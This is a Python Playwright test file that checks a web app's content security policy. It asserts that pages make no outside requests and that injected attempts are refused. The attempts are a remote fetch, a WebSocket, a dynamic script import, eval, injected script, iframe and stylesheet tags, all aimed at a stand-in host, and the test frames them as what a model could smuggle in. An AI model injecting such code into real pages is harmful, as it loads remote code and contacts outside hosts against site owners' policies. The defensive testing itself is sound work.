"""The content policy in a real browser: Berth's pages work under it, and nothing else does."""

import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page

from lib.api import static
from tests.conftest import ROOT
from tests.support.server import Server, running_server

# Streamlit tries whether there is WebAssembly and does without: that one refusal is no defect.
WATCH = """addEventListener("securitypolicyviolation", event => {
    if (event.blockedURI !== "wasm-eval") (window.violations ??= []).push(event.effectiveDirective)
})"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with running_server(tmp_path_factory.mktemp("berth")) as running:
        yield running


@pytest.fixture
def watched(page: Page) -> Page:
    """A visitor whose browser counts what it refused."""
    page.add_init_script(WATCH)
    return page


@pytest.mark.parametrize(
    "path", sorted(static.page_paths(ROOT)), ids=lambda path: path.strip("/") or "Home"
)
def test_a_page_breaks_no_rule_and_asks_nobody_outside(
    server: Server, watched: Page, path: str
) -> None:
    asked: list[str] = []
    watched.on("request", lambda request: asked.append(request.url))
    watched.goto(server.url + path)
    drawn = watched.locator('[data-testid="stMain"] [data-testid="stElementContainer"]')
    drawn.filter(visible=True).first.wait_for()
    watched.wait_for_load_state("networkidle")
    assert watched.evaluate("window.violations ?? []") == []
    assert [url for url in asked if not url.startswith((server.url, "data:", "blob:"))] == []


@pytest.mark.parametrize(
    ("attempt", "rule"),
    [
        ("new Image().src = 'https://outside.invalid/x.png'", "img-src"),
        ("fetch('https://outside.invalid/').catch(() => 0)", "connect-src"),
        ("try { new WebSocket('wss://outside.invalid/') } catch {}", "connect-src"),
        ("import('https://outside.invalid/x.js').catch(() => 0)", "script-src-elem"),
        # Later, because what the test itself evaluates may evaluate too.
        ("setTimeout(() => { try { eval('window.ran = 1') } catch {} })", "script-src"),
        (
            "document.head.append(Object.assign(document.createElement('script'),"
            " {textContent: 'window.ran = 1'}))",
            "script-src-elem",
        ),
        (
            "document.body.append(Object.assign(document.createElement('iframe'),"
            " {src: 'https://outside.invalid/'}))",
            "frame-src",
        ),
        (
            "document.head.append(Object.assign(document.createElement('link'),"
            " {rel: 'stylesheet', href: 'https://outside.invalid/x.css'}))",
            "style-src-elem",
        ),
    ],
    ids=["image", "fetch", "websocket", "module", "eval", "script", "frame", "style"],
)
def test_what_a_model_could_smuggle_in_is_refused(
    server: Server, watched: Page, attempt: str, rule: str
) -> None:
    watched.goto(server.url)
    watched.evaluate(attempt)
    give_up_at = time.monotonic() + 10
    while not watched.evaluate("window.violations?.length"):
        assert time.monotonic() < give_up_at, "nothing was refused"
        watched.wait_for_timeout(20)
    assert watched.evaluate("window.violations") == [rule]
    assert watched.evaluate("window.ran") is None
